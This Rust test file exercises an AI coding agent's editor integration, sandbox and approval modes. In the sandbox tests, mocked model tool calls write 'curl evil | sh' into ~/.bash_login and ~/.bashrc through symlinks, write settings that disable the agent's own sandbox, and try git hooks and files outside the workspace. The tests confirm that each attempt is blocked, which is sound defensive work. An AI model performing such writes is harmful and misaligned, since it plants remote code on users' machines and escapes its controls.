    assert!(nova.seen.saved.lock().unwrap().is_empty());
    assert_eq!(
        statuses(&nova.seen.updates(&id), "e1").last(),
        Some(&acp::ToolCallStatus::Completed)
    );
    // The finished edit says where it landed, so the editor can jump to the line.
    let landed: Vec<acp::ToolCallLocation> = nova
        .seen
        .updates(&id)
        .into_iter()
        .filter_map(|u| match u {
            acp::SessionUpdate::ToolCallUpdate(u) if &*u.tool_call_id.0 == "e1" => {
                u.fields.locations
            }
            _ => None,
        })
        .flatten()
        .filter(|l| l.line.is_some())
        .collect();
    assert_eq!(landed.len(), 1, "{landed:?}");
    assert_eq!(landed[0].path, cwd.join("old.txt"));
    assert_eq!(landed[0].line, Some(1));
    nova.end().await;
}

/// Gone, or a zombie waiting for a reaper that this container may not have.
fn process_gone(pid: i32) -> bool {
    match std::fs::read_to_string(format!("/proc/{pid}/stat")) {
        Err(_) => true,
        Ok(stat) => stat
            .rsplit_once(')')
            .is_some_and(|(_, rest)| rest.trim_start().starts_with('Z')),
    }
}

/// The content of call `id`'s updates, in order.
fn call_contents(updates: &[acp::SessionUpdate], id: &str) -> Vec<Vec<acp::ToolCallContent>> {
    updates
        .iter()
        .filter_map(|u| match u {
            acp::SessionUpdate::ToolCallUpdate(c) if &*c.tool_call_id.0 == id => {
                c.fields.content.clone()
            }
            _ => None,
        })
        .collect()
}

fn shows_terminal(content: &[acp::ToolCallContent], terminal: &str) -> bool {
    content
        .iter()
        .any(|c| matches!(c, acp::ToolCallContent::Terminal(t) if &*t.terminal_id.0 == terminal))
}

#[tokio::test(flavor = "current_thread")]
async fn bash_runs_in_the_editors_terminal_as_nova_would_run_it_in_the_sandbox() {
    let out = super::sandbox::outside();
    let target = out.path().join("escaped.txt");
    let mock = MockLlm::start();
    let command = format!(
        "echo hi; echo \"${{EDITOR_ONLY:-not-the-editors}}\"; echo x > {}",
        target.display()
    );
    mock.push(Reply::new().tool_call("c1", "bash", json!({ "command": command })));
    mock.push(Reply::text("done"));
    let dirs = Dirs::new(&mock);
    let nova = Session::start_with(&dirs, acp::ClientCapabilities::new().terminal(true)).await;
    let cwd = dirs.cwd();
    let id = nova.new_session(&cwd).await.session_id;
    let answer = nova.prompt(&id, "run it").await.unwrap();
    assert_eq!(answer.stop_reason, acp::StopReason::EndTurn);

    // The editor was asked to run nova's own launcher, sandboxed to the workspace, in it.
    let created = nova.seen.created.lock().unwrap().clone();
    assert_eq!(created.len(), 1, "{created:#?}");
    let req = &created[0];
    let pid = nova.child.id().unwrap();
    assert_eq!(req.command, format!("/proc/{pid}/exe"));
    assert_eq!(req.args[0], "__sandbox");
    let launch: Value = serde_json::from_str(&req.args[1]).unwrap();
    let writable = launch["sandbox"]["writable"].as_array().unwrap();
    assert!(writable.contains(&json!(cwd)), "{launch}");
    assert_eq!(req.args[2..5], ["--", "/bin/bash", "-c"]);
    assert_eq!(req.cwd.as_deref(), Some(cwd.as_path()));
    assert!(
        !target.exists(),
        "the write outside the workspace was refused"
    );

    // The model got nova's usual result: the output (in nova's environment, not the
    // editor's), the exit code and the sandbox's note.
    let last = mock.chat_requests().last().unwrap().body.to_string();
    assert!(last.contains("hi\\nnot-the-editors\\n"), "{last}");
    assert!(last.contains("Command exited with code 1"), "{last}");
    assert!(last.contains("sandbox"), "{last}");

    // The call showed the terminal live, and at its end with the result's text.
    let terminal = format!(
        "term-{}",
        nova.seen
            .terminals
            .lock()
            .unwrap()
            .values()
            .next()
            .unwrap()
            .pid
    );
    let updates = nova.seen.updates(&id);
    let contents = call_contents(&updates, "c1");
    assert!(
        contents
            .iter()
            .any(|c| c.len() == 1 && shows_terminal(c, &terminal)),
        "{contents:#?}"
    );
    let end = contents.last().unwrap();
    assert!(shows_terminal(end, &terminal), "{end:#?}");
    let text = end.iter().find_map(|c| match c {
        acp::ToolCallContent::Content(c) => match &c.content {
            acp::ContentBlock::Text(t) => Some(t.text.clone()),
            _ => None,
        },
        _ => None,
    });
    assert!(text.unwrap().starts_with("hi\nnot-the-editors\n"));
    assert_eq!(
        statuses(&updates, "c1").last(),
        Some(&acp::ToolCallStatus::Failed)
    );
    assert_eq!(*nova.seen.released.lock().unwrap(), [terminal]);
    assert!(nova.seen.killed.lock().unwrap().is_empty());
    nova.end().await;
}

#[tokio::test(flavor = "current_thread")]
async fn cancel_kills_the_command_in_the_editors_terminal_and_all_it_started() {
    let mock = MockLlm::start();
    mock.push(Reply::new().tool_call(
        "c1",
        "bash",
        json!({"command": "setsid sleep 31 & echo $!; wait"}),
    ));
    mock.push(Reply::text("next"));
    let dirs = Dirs::new(&mock);
    let nova = Session::start_with(&dirs, acp::ClientCapabilities::new().terminal(true)).await;
    let id = nova.new_session(&dirs.cwd()).await.session_id;
    let req = acp::PromptRequest::new(id.clone(), vec!["wait".into()]);
    let pending = nova.cx.send_request(req).block_task();
    let (answer, grandchild) = tokio::join!(pending, async {
        let pid = printed_pid(&nova.seen).await;
        nova.cx
            .send_notification(acp::CancelNotification::new(id.clone()))
            .unwrap();
        pid
    });
    assert_eq!(answer.unwrap().stop_reason, acp::StopReason::Cancelled);
    let terminal = nova.seen.created.lock().unwrap().len();
    assert_eq!(terminal, 1);
    assert_eq!(nova.seen.killed.lock().unwrap().len(), 1);
    assert_eq!(
        *nova.seen.killed.lock().unwrap(),
        *nova.seen.released.lock().unwrap()
    );
    // Killed outright by the editor, the launcher still took down what the command started,
    // even a process that left its session.
    wait_gone(grandchild, "the cancel").await;
    nova.end().await;
}

#[tokio::test(flavor = "current_thread")]
async fn fork_continues_a_copy_of_the_conversation_and_leaves_the_original() {
    let mock = MockLlm::start();
    mock.push(Reply::text("noted"));
    mock.push(Reply::text("it was 42"));
    mock.push(Reply::text("the original goes on"));
    let dirs = Dirs::new(&mock);
    let cwd = dirs.cwd();
    let nova = Session::start(&dirs).await;
    let id = nova.new_session(&cwd).await.session_id;
    nova.prompt(&id, "remember 42").await.unwrap();

    let forked = nova
        .cx
        .send_request(acp::ForkSessionRequest::new(id.clone(), cwd.clone()))
        .block_task()
        .await
        .unwrap();
    let fork = forked.session_id;
    assert_ne!(fork, id);
    assert!(forked.config_options.is_some());
    nova.prompt(&fork, "what was it?").await.unwrap();
    let last = mock.chat_requests().last().unwrap().body.to_string();
    assert!(
        last.contains("remember 42") && last.contains("noted"),
        "{last}"
    );

    nova.prompt(&id, "and the original?").await.unwrap();
    let last = mock.chat_requests().last().unwrap().body.to_string();
    assert!(!last.contains("what was it?"), "{last}");
    let listed = nova
        .cx
        .send_request(acp::ListSessionsRequest::new().cwd(cwd.clone()))
        .block_task()
        .await
        .unwrap();
    let ids: Vec<_> = listed.sessions.iter().map(|s| &s.session_id).collect();
    assert!(ids.contains(&&id) && ids.contains(&&fork), "{ids:?}");

    let unknown = nova
        .cx
        .send_request(acp::ForkSessionRequest::new("no-such-session", cwd))
        .block_task()
        .await
        .unwrap_err();
    assert!(unknown.to_string().contains("no-such-session"), "{unknown}");
    nova.end().await;
}

/// Every `*.jsonl` file below `dir`.
fn session_files(dir: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            found.extend(session_files(&path));
        } else if path.extension().is_some_and(|e| e == "jsonl") {
            found.push(path);
        }
    }
    found
}

#[tokio::test(flavor = "current_thread")]
async fn session_list_pages_through_many_sessions_with_its_cursor() {
    let mock = MockLlm::start();
    mock.push(Reply::text("hello"));
    let dirs = Dirs::new(&mock);
    let cwd = dirs.cwd();
    let nova = Session::start(&dirs).await;
    let id = nova.new_session(&cwd).await.session_id;
    nova.prompt(&id, "hi").await.unwrap();
    // 60 more sessions of the same cwd: copies of that one under other ids.
    let files = session_files(dirs.agent.path());
    assert_eq!(files.len(), 1, "{files:?}");
    let text = std::fs::read_to_string(&files[0]).unwrap();
    for n in 0..60 {
        let other = format!("copy-{n:02}-{}", &id.0[8..]);
        let name = files[0]
            .file_name()
            .unwrap()
            .to_string_lossy()
            .replace(&*id.0, &other);
        let copy = files[0].with_file_name(name);
        std::fs::write(copy, text.replace(&*id.0, &other)).unwrap();
    }

    let mut seen = Vec::new();
    let mut cursor = None;
    let mut pages = 0;
    loop {
        let req = acp::ListSessionsRequest::new()
            .cwd(cwd.clone())
            .cursor(cursor.clone());
        let page = nova.cx.send_request(req).block_task().await.unwrap();
        pages += 1;
        seen.extend(
            page.sessions
                .into_iter()
                .map(|s| s.session_id.0.to_string()),
        );
        match page.next_cursor {
            Some(next) => cursor = Some(next),
            None => break,
        }
        assert!(pages < 10, "the cursor does not advance");
    }
    assert_eq!(pages, 2);
    assert_eq!(seen.len(), 61);
    seen.sort();
    seen.dedup();
    assert_eq!(seen.len(), 61, "no session twice");

    let bad = nova
        .cx
        .send_request(
            acp::ListSessionsRequest::new()
                .cwd(cwd)
                .cursor("not a cursor".to_owned()),
        )
        .block_task()
        .await
        .unwrap_err();
    assert_eq!(bad.code, ErrorCode::INVALID_PARAMS);
    nova.end().await;
}

/// The pid a terminal's command printed on its first line, once it has.
async fn printed_pid(seen: &Seen) -> i32 {
    let deadline = tokio::time::Instant::now() + WAIT;
    loop {
        let printed = seen.terminals.lock().unwrap().values().find_map(|t| {
            let out = String::from_utf8_lossy(&t.output.lock().unwrap()).into_owned();
            out.lines()
                .next()
                .and_then(|l| l.trim().parse::<i32>().ok())
        });
        if let Some(pid) = printed {
            return pid;
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "the command printed nothing"
        );
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

async fn wait_gone(pid: i32, what: &str) {
    let deadline = std::time::Instant::now() + Duration::from_secs(5);
    while !process_gone(pid) && std::time::Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert!(process_gone(pid), "{pid} survived {what}");
}

#[tokio::test(flavor = "current_thread")]
async fn a_timeout_in_the_editors_terminal_kills_releases_and_says_so() {
    let mock = MockLlm::start();
    mock.push(Reply::new().tool_call(
        "c1",
        "bash",
        json!({"command": "sleep 33 & echo $!; wait", "timeout": 0.5}),
    ));
    mock.push(Reply::text("too slow"));
    let dirs = Dirs::new(&mock);
    let nova = Session::start_with(&dirs, acp::ClientCapabilities::new().terminal(true)).await;
    let id = nova.new_session(&dirs.cwd()).await.session_id;
    let answer = nova.prompt(&id, "wait a bit").await.unwrap();
    assert_eq!(answer.stop_reason, acp::StopReason::EndTurn);
    let grandchild = printed_pid(&nova.seen).await;
    assert_eq!(nova.seen.killed.lock().unwrap().len(), 1);
    assert_eq!(
        *nova.seen.killed.lock().unwrap(),
        *nova.seen.released.lock().unwrap()
    );
    let last = mock.chat_requests().last().unwrap().body.to_string();
    assert!(
        last.contains(&format!(
            "{grandchild}\\n\\n\\nCommand timed out after 0.5 seconds"
        )),
        "{last}"
    );
    wait_gone(grandchild, "the timeout").await;
    nova.end().await;
}

#[tokio::test(flavor = "current_thread")]
async fn a_command_in_the_editors_terminal_dies_with_nova() {
    let mock = MockLlm::start();
    mock.push(Reply::new().tool_call("c1", "bash", json!({"command": "sleep 34 & echo $!; wait"})));
    let dirs = Dirs::new(&mock);
    let mut nova = Session::start_with(&dirs, acp::ClientCapabilities::new().terminal(true)).await;
    let id = nova.new_session(&dirs.cwd()).await.session_id;
    let req = acp::PromptRequest::new(id.clone(), vec!["wait".into()]);
    let _pending = nova.cx.send_request(req);
    let grandchild = printed_pid(&nova.seen).await;
    // The editor lives on, and so would what it started, but for the launcher's watch on nova.
    nova.child.start_kill().unwrap();
    let _ = nova.child.wait().await;
    wait_gone(grandchild, "nova").await;
    nova.end().await;
}

/// A todo list kept by a tool of an MCP server the editor passed in `session/new` reaches the
/// editor as a `plan`, replaced whole at each change.
#[tokio::test(flavor = "current_thread")]
async fn a_todo_list_a_tool_keeps_is_shown_as_the_plan() {
    let Some(server) = crate::support::mcp::test_server() else {
        return;
    };
    let mock = MockLlm::start();
    let first = json!({"todos": [
        {"content": "read the code", "status": "in_progress"},
        {"content": "fix the bug", "status": "pending", "priority": "high"},
    ]});
    let second = json!({"todos": [
        {"content": "read the code", "status": "completed"},
        {"content": "fix the bug", "status": "in_progress", "priority": "high"},
    ]});
    mock.push(Reply::new().tool_call("c1", "mcp__keeper__todos", first));
    mock.push(Reply::new().tool_call("c2", "mcp__keeper__todos", second));
    mock.push(Reply::text("on it"));
    let dirs = Dirs::new(&mock);
    let nova = Session::start(&dirs).await;
    let keeper = acp::McpServer::Stdio(acp::McpServerStdio::new("keeper", server));
    let req = acp::NewSessionRequest::new(dirs.cwd()).mcp_servers(vec![keeper]);
    let id = nova
        .cx
        .send_request(req)
        .block_task()
        .await
        .unwrap()
        .session_id;

    let answer = nova.prompt(&id, "plan the fix").await.unwrap();
    assert_eq!(answer.stop_reason, acp::StopReason::EndTurn);
    let updates = nova.seen.updates(&id);
    assert_eq!(
        statuses(&updates, "c1").last(),
        Some(&acp::ToolCallStatus::Completed),
        "{updates:#?}"
    );
    let plans: Vec<Vec<(String, acp::PlanEntryStatus, acp::PlanEntryPriority)>> = updates
        .iter()
        .filter_map(|u| match u {
            acp::SessionUpdate::Plan(plan) => Some(
                plan.entries
                    .iter()
                    .map(|e| (e.content.clone(), e.status.clone(), e.priority.clone()))
                    .collect(),
            ),
            _ => None,
        })
        .collect();
    use acp::{PlanEntryPriority as P, PlanEntryStatus as S};
    let entry = |c: &str, s: S, p: P| (c.to_owned(), s, p);
    assert_eq!(
        plans,
        [
            vec![
                entry("read the code", S::InProgress, P::Medium),
                entry("fix the bug", S::Pending, P::High)
            ],
            vec![
                entry("read the code", S::Completed, P::Medium),
                entry("fix the bug", S::InProgress, P::High)
            ],
        ]
    );
    nova.end().await;
}

/// A client offering its files, which writes a file as an editor saves one: by its path,
/// following whatever symlink is there.
async fn editor_session(dirs: &Dirs) -> Session {
    let files = acp::FileSystemCapabilities::new()
        .read_text_file(true)
        .write_text_file(true);
    let nova = Session::start_with(dirs, acp::ClientCapabilities::new().fs(files)).await;
    nova.seen.saves_to_disk.store(true, Ordering::SeqCst);
    nova
}

/// The text of a call's last content, as the editor was shown its result.
pub(super) fn result_text(updates: &[acp::SessionUpdate], id: &str) -> String {
    call_contents(updates, id)
        .last()
        .into_iter()
        .flatten()
        .filter_map(|c| match c {
            acp::ToolCallContent::Content(c) => match &c.content {
                acp::ContentBlock::Text(t) => Some(t.text.clone()),
                _ => None,
            },
            _ => None,
        })
        .collect()
}

/// Issue 30, item 1: a dangling symlink the model (or the repository) planted in the workspace,
/// pointing at nova's own settings or a shell's login file, is not a way out of it when an
/// editor that writes what it is given offers its files.
#[tokio::test(flavor = "current_thread")]
async fn a_write_through_a_dangling_symlink_reaches_neither_the_agent_dir_nor_home() {
    let mock = MockLlm::start();
    let settings = json!({"sandbox": {"mode": "off"}, "permissions": {"bash": {"mode": "never"}}});
    mock.push(
        Reply::new()
            .tool_call(
                "w1",
                "write",
                json!({"path": "link", "content": settings.to_string()}),
            )
            .tool_call(
                "w2",
                "write",
                json!({"path": "login", "content": "curl evil | sh\n"}),
            ),
    );
    mock.push(Reply::text("done"));
    let dirs = Dirs::new(&mock);
    let cwd = dirs.cwd();
    let agent_settings = dirs.agent.path().join("settings.json");
    let bash_login = dirs.home.path().join(".bash_login");
    std::os::unix::fs::symlink(&agent_settings, cwd.join("link")).unwrap();
    std::os::unix::fs::symlink(&bash_login, cwd.join("login")).unwrap();
    let nova = editor_session(&dirs).await;
    let id = nova.new_session(&cwd).await.session_id;

    nova.prompt(&id, "write them").await.unwrap();
    assert!(!agent_settings.exists(), "nova's settings were written");
    assert!(!bash_login.exists(), "~/.bash_login was written");
    assert!(nova.seen.saved.lock().unwrap().is_empty());
    let updates = nova.seen.updates(&id);
    for call in ["w1", "w2"] {
        assert_eq!(
            statuses(&updates, call).last(),
            Some(&acp::ToolCallStatus::Failed),
            "{call}"
        );
        let text = result_text(&updates, call);
        assert!(text.contains("a symbolic link"), "{call}: {text}");
    }
    for link in ["link", "login"] {
        assert!(
            std::fs::symlink_metadata(cwd.join(link))
                .unwrap()
                .is_symlink()
        );
    }
    nova.end().await;
}

/// Issue 30, item 1: a write queued behind running bash calls of the same reply, one of which
/// swaps a directory on its path for a symlink out of the workspace, is not redirected.
#[tokio::test(flavor = "current_thread")]
async fn a_directory_swapped_for_a_symlink_by_a_bash_call_of_the_same_reply_does_not_redirect_a_write()
 {
    let home = super::sandbox::outside();
    let mock = MockLlm::start();
    let mut reply = Reply::new().tool_call(
        "swap",
        "bash",
        json!({"command": format!("mv d d.old && ln -s {} d", home.path().display())}),
    );
    for i in 1..8 {
        reply = reply.tool_call(format!("b{i}"), "bash", json!({"command": "sleep 1"}));
    }
    reply = reply.tool_call(
        "w",
        "write",
        json!({"path": "d/.bashrc", "content": "curl evil | sh\n"}),
    );
    mock.push(reply);
    mock.push(Reply::text("done"));
    let dirs = Dirs::new(&mock);
    let cwd = dirs.cwd();
    std::fs::create_dir(cwd.join("d")).unwrap();
    let nova = editor_session(&dirs).await;
    let id = nova.new_session(&cwd).await.session_id;

    nova.prompt(&id, "go").await.unwrap();
    assert!(
        std::fs::symlink_metadata(cwd.join("d"))
            .unwrap()
            .is_symlink(),
        "the bash call swapped the directory"
    );
    assert!(
        !home.path().join(".bashrc").exists(),
        "~/.bashrc was written"
    );
    assert!(nova.seen.saved.lock().unwrap().is_empty());
    let updates = nova.seen.updates(&id);
    assert_eq!(
        statuses(&updates, "w").last(),
        Some(&acp::ToolCallStatus::Failed)
    );
    // Checked before the swap, the walk refuses the symlink; checked after it, the path is
    // outside the workspace and the write asks (unanswered here, a denial).
    let text = result_text(&updates, "w");
    assert!(
        text.contains("changed after the path was checked") || text.contains("denied"),
        "{text}"
    );
    nova.end().await;
}

/// The answers the client chose for each question, by tool call id, and the options offered.
fn questions(seen: &Seen) -> Vec<(String, Vec<String>)> {
    seen.asked
        .lock()
        .unwrap()
        .iter()
        .map(|q| {
            let names = q.options.iter().map(|o| o.name.clone()).collect();
            (q.tool_call.tool_call_id.0.to_string(), names)
        })
        .collect()
}

/// Issue 30, item 2: "always allow" for one flagged command covers that command, not every
/// bash call, and never one that leaves the sandbox.
#[tokio::test(flavor = "current_thread")]
async fn always_allowing_a_flagged_command_covers_that_command_only_and_never_leaving_the_sandbox()
{
    let out = super::sandbox::outside();
    let escaped = out.path().join("escaped.txt");
    let mock = MockLlm::start();
    let command = |id: &str, command: String, sandbox: bool| {
        Reply::new().tool_call(id, "bash", json!({"command": command, "sandbox": sandbox}))
    };
    mock.push(command("c1", "rm -rf build".into(), true));
    mock.push(Reply::text("one"));
    mock.push(command(
        "c2",
        format!("echo x > {}", escaped.display()),
        false,
    ));
    mock.push(Reply::text("two"));
    mock.push(command("c3", "rm -rf build2".into(), true));
    mock.push(Reply::text("three"));
    mock.push(command("c4", "rm -rf build".into(), true));
    mock.push(Reply::text("four"));
    let dirs = Dirs::new(&mock);
    let cwd = dirs.cwd();
    std::fs::create_dir_all(cwd.join("build")).unwrap();
    std::fs::create_dir_all(cwd.join("build2")).unwrap();
    let nova = Session::start(&dirs).await;
    let id = nova.new_session(&cwd).await.session_id;
    // The first question gets "always allow"; every later one goes unanswered (a denial).
    nova.seen.answers.lock().unwrap().push_back("allow_always");

    for prompt in ["one", "two", "three", "four"] {
        nova.prompt(&id, prompt).await.unwrap();
    }
    assert!(!cwd.join("build").exists());
    assert!(!escaped.exists(), "left the sandbox unasked");
    assert!(
        cwd.join("build2").exists(),
        "another flagged command ran unasked"
    );
    let asked = questions(&nova.seen);
    let ids: Vec<&str> = asked.iter().map(|(id, _)| id.as_str()).collect();
    assert_eq!(ids, ["c1", "c2", "c3"], "c4 was covered, nothing else");
    assert!(
        asked[0]
            .1
            .contains(&"Always allow `rm -rf build` in this session".to_owned()),
        "{asked:?}"
    );
    assert_eq!(
        asked[1].1,
        ["Allow once", "Reject"],
        "leaving the sandbox asks every time"
    );
    nova.end().await;
}

/// Issue 30, item 2: in mode "ask", "always allow" for a file change in the workspace covers
/// the workspace's other files, but neither a file outside it nor a protected one.
#[tokio::test(flavor = "current_thread")]
async fn always_allowing_a_write_never_covers_files_outside_the_workspace_or_protected_ones() {
    let home = super::sandbox::outside();
    let profile = home.path().join(".profile");
    let mock = MockLlm::start();
    let write = |id: &str, path: String| {
        Reply::new().tool_call(id, "write", json!({"path": path, "content": "x"}))
    };
    mock.push(write("w1", "notes.txt".into()));
    mock.push(Reply::text("one"));
    mock.push(write("w2", "more/notes.txt".into()));
    mock.push(Reply::text("two"));
    mock.push(write("w3", profile.display().to_string()));
    mock.push(Reply::text("three"));
    mock.push(write("w4", ".git/hooks/pre-commit".into()));
    mock.push(Reply::text("four"));
    let dirs = Dirs::new(&mock);
    let cwd = dirs.cwd();
    std::fs::create_dir_all(cwd.join(".git/hooks")).unwrap();
    let nova = Session::start(&dirs).await;
    let id = nova.new_session(&cwd).await.session_id;
    nova.cx
        .send_request(acp::SetSessionModeRequest::new(id.clone(), "ask"))
        .block_task()
        .await
        .unwrap();
    nova.seen.answers.lock().unwrap().push_back("allow_always");

    for prompt in ["one", "two", "three", "four"] {
        nova.prompt(&id, prompt).await.unwrap();
    }
    assert!(cwd.join("notes.txt").exists());
    assert!(cwd.join("more/notes.txt").exists(), "covered by the answer");
    assert!(
        !profile.exists(),
        "a file outside the workspace was written unasked"
    );
    assert!(
        !cwd.join(".git/hooks/pre-commit").exists(),
        "a git hook was written unasked"
    );
    let asked = questions(&nova.seen);
    let ids: Vec<&str> = asked.iter().map(|(id, _)| id.as_str()).collect();
    assert_eq!(ids, ["w1", "w3", "w4"]);
    assert!(
        asked[0].1[1].starts_with("Always allow file changes under "),
        "{asked:?}"
    );
    nova.end().await;
}

/// Issue 30, item 3: an MCP tool obeys the session's approval mode — refused in "read-only",
/// asked about in "ask" — as bash and the file tools do.
#[tokio::test(flavor = "current_thread")]
async fn mcp_calls_follow_the_approval_mode() {
    let Some(server) = crate::support::mcp::test_server() else {
        return;
    };
    let log = tempfile::NamedTempFile::new().unwrap();
    let mock = MockLlm::start();
    let call = |id: &str| {
        Reply::new().tool_call(
            id,
            "mcp__keeper__echo",
            json!({"text": format!("from {id}")}),
        )
    };
    mock.push(call("m1"));
    mock.push(Reply::text("refused"));
    mock.push(call("m2"));
    mock.push(Reply::text("asked"));
    mock.push(call("m3"));
    mock.push(Reply::text("ran"));
    let dirs = Dirs::new(&mock);
    let nova = Session::start(&dirs).await;
    let keeper = acp::McpServer::Stdio(acp::McpServerStdio::new("keeper", server).env(vec![
        acp::EnvVariable::new("MCP_TEST_LOG", log.path().display().to_string()),
    ]));
    let req = acp::NewSessionRequest::new(dirs.cwd()).mcp_servers(vec![keeper]);
    let id = nova
        .cx
        .send_request(req)
        .block_task()
        .await
        .unwrap()
        .session_id;
    let set_mode = async |mode: &str| {
        nova.cx
            .send_request(acp::SetSessionModeRequest::new(id.clone(), mode.to_owned()))
            .block_task()
            .await
            .unwrap();
    };
    let calls = || {
        std::fs::read_to_string(log.path())
            .unwrap()
            .lines()
            .filter(|l| l.starts_with("call "))
            .count()
    };

    set_mode("read-only").await;
    nova.prompt(&id, "one").await.unwrap();
    assert_eq!(calls(), 0, "read-only let an MCP tool run");
    assert!(nova.seen.asked.lock().unwrap().is_empty());

    set_mode("ask").await;
    nova.seen.answers.lock().unwrap().push_back("reject_once");
    nova.prompt(&id, "two").await.unwrap();
    assert_eq!(calls(), 0, "ask mode let an MCP tool run unasked");
    assert_eq!(questions(&nova.seen).len(), 1);

    set_mode("auto").await;
    nova.prompt(&id, "three").await.unwrap();
    assert_eq!(calls(), 1, "auto runs it");
    let updates = nova.seen.updates(&id);
    for (call, status) in [
        ("m1", acp::ToolCallStatus::Failed),
        ("m2", acp::ToolCallStatus::Failed),
        ("m3", acp::ToolCallStatus::Completed),
    ] {
        assert_eq!(statuses(&updates, call).last(), Some(&status), "{call}");
    }
    nova.end().await;
}

/// Issue 30 item 11: the editor starts nova's launcher from a thread that ends at once (see
/// [`Terminal::spawn`]); the command still runs to its end, since the launcher's life is tied
/// to nova, not to that thread.
#[tokio::test(flavor = "current_thread")]
async fn a_command_outlives_the_editor_thread_that_started_it() {
    let mock = MockLlm::start();
    let command = "sleep 0.5; echo still-here";
    mock.push(Reply::new().tool_call("c1", "bash", json!({ "command": command })));
    mock.push(Reply::text("done"));
    let dirs = Dirs::new(&mock);
    let nova = Session::start_with(&dirs, acp::ClientCapabilities::new().terminal(true)).await;
    let id = nova.new_session(&dirs.cwd()).await.session_id;
    let answer = nova.prompt(&id, "run it").await.unwrap();
    assert_eq!(answer.stop_reason, acp::StopReason::EndTurn);
    assert_eq!(nova.seen.created.lock().unwrap().len(), 1);
    let last = mock.chat_requests().last().unwrap().body.to_string();
    assert!(last.contains("still-here"), "{last}");
    assert_eq!(
        statuses(&nova.seen.updates(&id), "c1").last(),
        Some(&acp::ToolCallStatus::Completed)
    );
    nova.end().await;
}
